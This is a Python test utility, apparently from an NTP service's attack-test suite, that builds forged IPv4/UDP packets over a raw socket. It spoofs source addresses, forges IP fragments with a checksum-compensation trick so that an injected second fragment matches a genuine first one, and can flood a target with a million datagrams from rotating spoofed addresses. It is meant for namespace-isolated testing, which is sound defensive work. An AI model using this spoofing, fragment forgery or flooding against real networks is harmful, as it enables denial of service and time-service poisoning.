# -*- test-case-name: tests.attacks.test_spoof -*-
# Copyright (c) ntpservice developers. See LICENSE for details.
"""
Forged IPv4/UDP datagrams for the attack tests: any source address and
port, optionally split into IP fragments, sent through a raw socket
(C{IPPROTO_RAW}, so the kernel takes our IP header as it is).

Run it inside an attacker's namespace, as a module::

    ip netns exec NS python -m tests.attacks.spoof --src 10.250.7.2 \\
        --sport 123 --dst 10.250.7.1 --dport 123 --payload HEX [--count N]
    ip netns exec NS python -m tests.attacks.spoof --flood 1000000 \\
        --src-net 100.64.0.0/10 --dst 10.250.7.1 --dport 123 --payload HEX

C{--flood N} sends N datagrams, each from the next address of
C{--src-net} (a fresh source address per datagram), and prints how many
were sent and how long it took as JSON.

Scapy would build these packets too; but a flood of a million forged
datagrams needs a few microseconds per packet, and an IPv4 and UDP header
are 30 lines of C{struct}.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import socket
import struct
import sys
import time
from typing import Iterable, Iterator, Sequence

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
"""The tree's root, from which C{tests.attacks} imports."""

IP_HEADER = struct.Struct("!BBHHHBBH4s4s")
UDP_HEADER = struct.Struct("!HHHH")
MORE_FRAGMENTS = 0x2000


def moduleCommand(module: str, *args: str) -> list[str]:
    """
    The command line that runs C{python -m MODULE ARGS} from this tree,
    whatever the working directory (for C{NetNamespace.run} and C{popen}).
    """
    code = (f"import runpy, sys; sys.path.insert(0, {ROOT!r}); "
            f"runpy.run_module({module!r}, run_name='__main__', alter_sys=True)")
    return [sys.executable, "-c", code, *args]


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of C{data}."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udpDatagram(src: str, sport: int, dst: str, dport: int, payload: bytes) -> bytes:
    """The UDP header and payload, with the checksum over the IPv4 pseudo-header."""
    length = UDP_HEADER.size + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack(
        "!BBH", 0, socket.IPPROTO_UDP, length
    )
    header = UDP_HEADER.pack(sport, dport, length, 0)
    value = checksum(pseudo + header + payload) or 0xFFFF
    return UDP_HEADER.pack(sport, dport, length, value) + payload


def ipv4Packet(src: str, dst: str, body: bytes, ident: int = 0x4E54,
               fragment: int = 0, more: bool = False, ttl: int = 64,
               protocol: int = socket.IPPROTO_UDP) -> bytes:
    """
    An IPv4 packet carrying C{body} (a UDP datagram or a fragment of one).

    @param fragment: the fragment offset in octets (a multiple of 8).
    @param more: set the More Fragments flag.
    """
    if fragment % 8:
        raise ValueError("a fragment offset is a multiple of 8 octets")
    flags = (fragment // 8) | (MORE_FRAGMENTS if more else 0)
    header = IP_HEADER.pack(0x45, 0, IP_HEADER.size + len(body), ident, flags, ttl,
                            protocol, 0, socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + body


def udpPacket(src: str, sport: int, dst: str, dport: int, payload: bytes,
              ident: int = 0x4E54) -> bytes:
    """One unfragmented IPv4 packet with a UDP datagram from C{src}:C{sport}."""
    return ipv4Packet(src, dst, udpDatagram(src, sport, dst, dport, payload), ident)


def fragments(src: str, sport: int, dst: str, dport: int, payload: bytes,
              firstSize: int, ident: int) -> list[bytes]:
    """
    The UDP datagram split into two IPv4 fragments: the first carries
    C{firstSize} octets of the UDP datagram (a multiple of 8: the UDP header
    and the start of the payload), the second the rest.

    To forge a second fragment, build the fragments of the forged payload
    with the genuine first fragment's C{ident}; the UDP checksum must then
    match the genuine first fragment's, which an attacker arranges by
    choosing the forged octets (see L{compensate}).
    """
    datagram = udpDatagram(src, sport, dst, dport, payload)
    if firstSize % 8 or not 0 < firstSize < len(datagram):
        raise ValueError("the first fragment holds a multiple of 8 octets, not all")
    return [
        ipv4Packet(src, dst, datagram[:firstSize], ident, 0, more=True),
        ipv4Packet(src, dst, datagram[firstSize:], ident, firstSize),
    ]


def compensate(genuine: bytes, forged: bytearray, at: int) -> None:
    """
    Adjust the 16-bit word at offset C{at} of C{forged} (an even offset,
    outside the octets the attack changes) so that C{forged} has the same
    one's-complement sum as C{genuine}: the UDP checksum of the genuine
    first fragment then covers the forged payload too.
    """
    if at % 2 or len(genuine) != len(forged):
        raise ValueError("an even offset in payloads of one length")
    forged[at:at + 2] = b"\0\0"
    want = (~checksum(genuine)) & 0xFFFF
    have = (~checksum(bytes(forged))) & 0xFFFF
    word = (want - have) % 0xFFFF
    forged[at:at + 2] = struct.pack("!H", word)


def rawSocket() -> socket.socket:
    """A raw IPv4 socket that sends our packets with their own headers."""
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def send(packets: Iterable[bytes], sock: socket.socket | None = None) -> int:
    """Send IPv4 packets as they are; return how many were sent."""
    own = sock is None
    sock = sock or rawSocket()
    sent = 0
    try:
        for packet in packets:
            sock.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
            sent += 1
    finally:
        if own:
            sock.close()
    return sent


def sources(network: str) -> Iterator[str]:
    """Every host address of C{network}, in order, round and round."""
    net = ipaddress.IPv4Network(network)
    while True:
        for address in net.hosts():
            yield str(address)


def flood(count: int, network: str, dst: str, dport: int, payload: bytes,
          sport: int = 123, rate: float = 0.0) -> dict[str, float]:
    """
    Send C{count} datagrams to C{dst}, each from a fresh address of
    C{network}; at most C{rate} per second when C{rate} is positive.

    @return: C{{"sent": n, "seconds": s}}.
    """
    sock = rawSocket()
    start = time.monotonic()
    sent = 0
    try:
        for sent, src in enumerate(sources(network), 1):
            packet = udpPacket(src, sport, dst, dport, payload, ident=sent & 0xFFFF)
            try:
                sock.sendto(packet, (dst, 0))
            except OSError:
                time.sleep(0.001)  # the queue is full: let the receiver drain it
            if rate > 0 and sent % 256 == 0:
                ahead = sent / rate - (time.monotonic() - start)
                if ahead > 0:
                    time.sleep(ahead)
            if sent >= count:
                break
    finally:
        sock.close()
    return {"sent": sent, "seconds": time.monotonic() - start}


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.attacks.spoof",
                                     description="send forged IPv4/UDP datagrams")
    parser.add_argument("--src", help="the forged source address")
    parser.add_argument("--src-net", help="with --flood: source addresses from this network")
    parser.add_argument("--sport", type=int, default=123)
    parser.add_argument("--raw", nargs="+", metavar="HEX",
                        help="send these whole IPv4 packets as they are, and nothing else")
    parser.add_argument("--dst")
    parser.add_argument("--dport", type=int, default=123)
    parser.add_argument("--payload", default="", help="the UDP payload, hexadecimal")
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--interval", type=float, default=0.0,
                        help="seconds between datagrams (without --flood)")
    parser.add_argument("--flood", type=int, default=0,
                        help="send this many datagrams, one per source address")
    parser.add_argument("--rate", type=float, default=0.0,
                        help="with --flood: datagrams per second at most")
    args = parser.parse_args(argv)
    payload = bytes.fromhex(args.payload)
    if args.raw:
        start = time.monotonic()
        sent = send(bytes.fromhex(h) for h in args.raw)
        result = {"sent": sent, "seconds": time.monotonic() - start}
    elif not args.dst:
        parser.error("--dst is required")
    elif args.flood:
        if not args.src_net:
            parser.error("--flood needs --src-net")
        result = flood(args.flood, args.src_net, args.dst, args.dport, payload,
                       args.sport, args.rate)
    else:
        if not args.src:
            parser.error("--src is required")
        start = time.monotonic()
        packet = udpPacket(args.src, args.sport, args.dst, args.dport, payload)
        sock = rawSocket()
        try:
            for i in range(args.count):
                if i and args.interval:
                    time.sleep(args.interval)
                send([packet], sock)
        finally:
            sock.close()
        result = {"sent": args.count, "seconds": time.monotonic() - start}
    json.dump(result, sys.stdout)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
